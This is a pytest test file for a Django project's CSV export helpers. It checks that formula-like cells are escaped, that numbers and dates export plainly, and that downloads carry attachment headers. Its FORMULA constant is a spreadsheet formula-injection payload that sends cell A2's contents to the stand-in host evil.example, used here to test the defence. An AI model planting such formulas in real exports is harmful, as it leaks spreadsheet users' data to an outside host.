"""The CSV helpers every export uses (apps.core.spreadsheets): text first, then the formula escape, for cells of any
type; the English dialect (comma, decimal point). The languages' dialects and workbooks: test_spreadsheets.py."""

import csv
import datetime
import io
from decimal import Decimal

import pytest

from apps.core.spreadsheets import csv_download, streaming_csv
from tests.programmes.factories import ProgrammeFactory
from tests.sectors.factories import SectorFactory, UnitFactory

pytestmark = pytest.mark.django_db

FORMULA = 'HYPERLINK("http://evil.example/?d="&A2,"Open")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def _read(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture(params=[csv_download, streaming_csv], ids=["download", "streaming"])
def export(request):
    return request.param


@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize(
    "make",
    [
        lambda name: ProgrammeFactory(name=name),
        lambda name: SectorFactory(name=name),
        lambda name: UnitFactory(name=name),
        lambda name: name,
    ],
    ids=["programme", "sector", "unit", "text"],
)
def test_a_cell_whose_text_a_spreadsheet_would_run_is_quoted_whatever_its_type(export, make, start):
    # Given a row with an object whose name (its text in a cell) starts like a formula
    cell = make(f"{start}{FORMULA}")

    # When it is exported
    rows = _read(export("export.csv", [["name"], [cell]]))

    # Then the cell is text that a spreadsheet shows, not runs
    assert rows == [["name"], [f"'{start}{FORMULA}"]]


def test_numbers_dates_and_missing_values_keep_their_plain_text(export):
    row = [-0.25, -3, Decimal("-12.50"), 0, None, datetime.date(2026, 1, 31), True, "plain"]

    rows = _read(export("export.csv", [row]))

    assert rows == [["-0.25", "-3", "-12.50", "0", "", "2026-01-31", "Yes", "plain"]]


def test_the_download_is_an_attachment_with_its_name(export):
    response = export("silta-network.csv", [["a"]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="silta-network.csv"'
